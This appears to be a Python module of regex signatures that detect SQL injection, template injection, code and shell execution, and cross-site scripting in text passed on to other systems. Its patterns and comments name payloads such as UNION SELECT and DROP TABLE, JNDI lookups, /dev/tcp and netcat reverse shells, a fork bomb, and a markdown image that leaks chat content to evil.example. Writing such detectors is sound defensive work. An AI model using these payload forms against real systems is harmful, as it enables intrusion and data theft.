"""Signatures of text that acts where it is passed on: in a database, a template, a shell, a browser.

They look for what an exploit needs, not for what a text about it says: prose that mentions a keyword, a
query in an answer, a link pass. Each is bounded by what stands in it, so a match is short. They know no
encodings, and nothing that is spread over several messages.
"""

from __future__ import annotations

from functools import cache
from types import MappingProxyType
from typing import TYPE_CHECKING

from rails_engine.patterns import compile_pattern

if TYPE_CHECKING:
    from collections.abc import Mapping

    from rails_engine.patterns import Pattern

#: What stands between two words of SQL.
_GAP = r"(?:\s|/\*[^*]*\*/)+"
_END = r"[ \t]*(?:\z|\n)"

_SQLI = (
    # ' OR '1'='1, 5 or 1=1
    (
        rf"""['"]\s*\)*(?:{_GAP})?(?:or|and|\|\||&&)(?:{_GAP})?\(*(?:\d+\s*(?:=|like)\s*['"]?\d+"""
        rf"""|'[^'\n]{{0,30}}'\s*(?:=|like)\s*'|"[^"\n]{{0,30}}"\s*(?:=|like)\s*")"""
    ),
    rf"\b\d+\)*{_GAP}(?:or|and){_GAP}\(*\d+\s*=\s*\d+",
    # ' UNION SELECT … --, UNION ALL SELECT NULL, 1,2,@@version
    rf"""['"]\s*\)*{_GAP}union{_GAP}(?:all{_GAP}|distinct{_GAP})?select\b[^;\n]*?(?:--|#|/\*){_END}""",
    (
        rf"\bunion{_GAP}(?:all{_GAP}|distinct{_GAP})?select{_GAP}(?:null\b|@@|\d+\s*,\s*(?:\d|null\b|@@|\w+\()"
        r"|(?:group_concat|concat|load_file|version|database|current_user|user)\s*\()"
    ),
    (
        rf"\bunion{_GAP}(?:all{_GAP})?select\b[^;\n]*\bfrom\s+"
        r"(?:information_schema|mysql\.user|pg_shadow|pg_catalog|sqlite_master|sysobjects|all_tables)\b"
    ),
    # '; DROP TABLE users
    r"""['"\d]\s*\)*\s*;[ \t]*(?:drop|truncate|alter)\s+(?:table|database|schema|view|user)\s+\S""",
    (
        r"""['"]\s*\)*\s*;[ \t]*(?:delete\s+from|insert\s+into|update\s+\w+\s+set|grant\s+\w+"""
        rf"""|exec(?:ute)?|shutdown)\b[^;\n]*;?[ \t]*(?:--|#){_END}"""
    ),
    # admin' --
    rf"""'(?:\s*\))*[ \t]*(?:--|#)(?:{_END}|["`])""",
    # ' AND SLEEP(5)
    (
        rf"""(?:['"]\s*\)*|\b\d+)(?:{_GAP})?(?:or|and|\|\|){_GAP}(?:if\s*\()?\(*(?:select\s+)?"""
        r"(?:sleep|pg_sleep|benchmark|randomblob|extractvalue|updatexml)\s*\("
    ),
    r"\bwaitfor\s+delay\s+'",
    r"""['"]\s*(?:;|\|\|)\s*(?:select\s+)?pg_sleep\s*\(""",
    r"""\bxp_cmdshell\s*\(?\s*['"@]""",
    r"""\binto\s+(?:outfile|dumpfile)\s+['"]""",
    r"\b(?:extractvalue|updatexml)\s*\([^()\n]*\bconcat\s*\(",
)

_INSIDE = r"[^{}]*"
_TEMPLATE = (
    # {{ ''.__class__ }}, {{ x|attr('y') }}, {{ config }}
    rf"\{{\{{{_INSIDE}(?:__\w+__|\|\s*attr\s*\()",
    (
        r"\{\{-?\s*(?:config|self|request|settings|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|environ"
        r"|dump|constructor|process|globals)\b"
    ),
    rf"\{{\{{{_INSIDE}\b(?:eval|exec|system|popen|passthru|shell_exec|require|import|getRuntime|forName|constructor)\s*\(",
    # {{ 7*7 }}, ${7*7}, #{7*7}, <%= 7*7 %>
    rf"\{{\{{{_INSIDE}\d\s*[*+%]\s*['\"]?\d",
    r"[$#@*]\{\s*\d+\s*[*+]\s*\d+\s*\}",
    r"<%=?\s*\d+\s*[*+]\s*\d+\s*%>",
    # {% import os %}, {% for c in ().__class__ … %}
    r"\{%[-+]?\s*(?:import|include|extends|debug|do|ssi|php)\b[^{}]*%\}",
    r"\{%[^{}]*(?:__\w+__|\|\s*attr\s*\()",
    r"\{%[^{}]*\b(?:eval|exec|system|popen|os\.\w+)\s*\(",
    # ${T(java.lang.Runtime)…}, ${jndi:ldap://…}
    r"[$*#]\{\s*(?:jndi:|T\s*\()",
    r"\$\{[^{}]*(?:getRuntime|forName|getClass|ProcessBuilder)\b",
    r"<%[^%]*\b(?:system|exec|eval|popen|Runtime|IO\.|File\.read)\b[^%]*%>",
    r"\bfreemarker\.template\.utility\.\w",
    r"#set\s*\(\s*\$\w+\s*=[^)\n]*(?:\.class\b|getRuntime|forName)",
)

_MODULES = (
    r"(?:os|subprocess|shutil|pty|socket|ctypes|cmd|commands|popen2|pexpect|ftplib|telnetlib|smtplib|paramiko|requests"
    r"|urllib[23]?|httplib2?|httpx|aiohttp|http\.client|winreg)"
)
_STATEMENT = r"(?:\A|[\n;>])[ \t]*"
_CODE = (
    # import os
    (
        rf"{_STATEMENT}import[ \t]+(?:[\w.]+(?:[ \t]+as[ \t]+\w+)?[ \t]*,[ \t]*)*{_MODULES}(?:\.\w+)*[ \t]*"
        r"(?:\z|[;,\n]|as[ \t])"
    ),
    rf"{_STATEMENT}from[ \t]+{_MODULES}(?:\.\w+)*[ \t]+import[ \t]+[\w*(]",
    # os.system("ls"), subprocess.run(["ls"])
    (
        r"\b(?:os\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?|startfile|remove|unlink|rmdir|removedirs|setuid|chmod)"
        r"|subprocess\.(?:run|call|Popen|check_output|check_call|getoutput|getstatusoutput)"
        r"|shutil\.(?:rmtree|move|chown)|pty\.spawn|commands\.getoutput|ctypes\.(?:CDLL|WinDLL))\s*\(\s*[^)\s.…]"
    ),
    # __import__("os"), eval(input())
    r"""\b__import__\s*\(\s*['"]""",
    rf"""\bimport_module\s*\(\s*['"]{_MODULES}['"]""",
    (
        r"\b(?:eval|exec)\s*\(\s*(?:compile|input|open|requests|urllib|base64|codecs|zlib|marshal|bytes|__import__|atob|unescape"
        r"|decodeURIComponent|String\.fromCharCode|document\.|location\.|chr)\b"
    ),
    r"__builtins__\s*(?:\[|\.\s*\w+\s*\()",
    r"\.__(?:class|base|bases|mro)__[^\n]*\.__subclasses__\s*\(",
    # the same in other languages
    r"""\brequire\s*\(\s*['"](?:node:)?child_process['"]\s*\)\s*\.\s*\w+\s*\(""",
    r"\bprocess\.mainModule\.require\s*\(",
    r"""\.constructor\s*\(\s*['"`]\s*return\b""",
    r"\bgetRuntime\(\)\s*\.\s*exec\s*\(\s*[^)\s]",
    r"\b(?:system|exec|passthru|shell_exec|eval|assert|include|require)\s*\(?\s*\$_(?:GET|POST|REQUEST|COOKIE)\b",
    r"[<>]&?\s*/dev/tcp/\w",
    r"\bnc(?:at)?[ \t][^\n]*-e[ \t]*/bin/\w",
    r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
    r"(?i:powershell[^\n]*-e(?:nc|ncodedcommand)?)[ \t]+[A-Za-z0-9+/=]{20}",
)

#: What browsers ignore inside ``javascript:``.
_SPACE = r"(?:\s|&#x?[0-9a-f]+;|&(?:tab|newline);)*"
_SCHEME = (
    rf"(?:(?:{_SPACE.join('javascript')}|{_SPACE.join('vbscript')}){_SPACE}:|data{_SPACE}:{_SPACE}text/html)"
)
_XSS = (
    # <script>alert(1)</script>, <script src=//evil.example>
    r"<script(?:[\s/][^<>]*)?>[^<`]*[(=;.\[][^<`]*</script\s*>?",
    r"<script[\s/][^<>]*\bsrc\s*=\s*['\"]?\s*(?:https?:|data:)?//",
    r"<script[\s/][^<>]*\bsrc\s*=\s*['\"]?\s*data:",
    # <img src=x onerror=alert(1)>
    r"<[a-z][a-z0-9:-]*(?:[\s/][^<>]*)?[\s/'\"]on[a-z]{3,20}\s*=\s*['\"]?[^\s'\"<>]",
    # <a href="javascript:…">, [x](javascript:…)
    rf"\b(?:href|src|action|formaction|data|poster|background)\s*=\s*['\"]?{_SPACE}{_SCHEME}",
    rf"\]\(\s*<?{_SPACE}{_SCHEME}",
    rf"\]:\s*<?{_SPACE}{_SCHEME}",
    r"<(?:iframe|object|embed|frame|applet|base)[\s/][^<>]*\b(?:src|srcdoc|data|href|code)\s*=",
    r"<meta[\s/][^<>]*http-equiv\s*=\s*['\"]?refresh",
    r"<svg(?:[\s/][^<>]*)?>\s*<(?:script|animate|set|foreignobject)\b",
    r"<style[^<>]*>[^<]*(?:expression\s*\(|@import|javascript:)",
    # ![x](https://evil.example/?q=what-the-user-said)
    r"!\[[^\]\n]*\]\(\s*<?https?://[^)\s]*[?&][\w.-]+=[^)&\s]{16}",
)


def _folded(patterns: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(f"(?i:{pattern})" for pattern in patterns)


#: By the names that configurations use.
SIGNATURES: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {"sqli": _folded(_SQLI), "template": _folded(_TEMPLATE), "code": _CODE, "xss": _folded(_XSS)}
)


@cache
def signature(name: str) -> Pattern:
    """The signatures of a name as one pattern, compiled once a process."""
    return compile_pattern("|".join(SIGNATURES[name]))
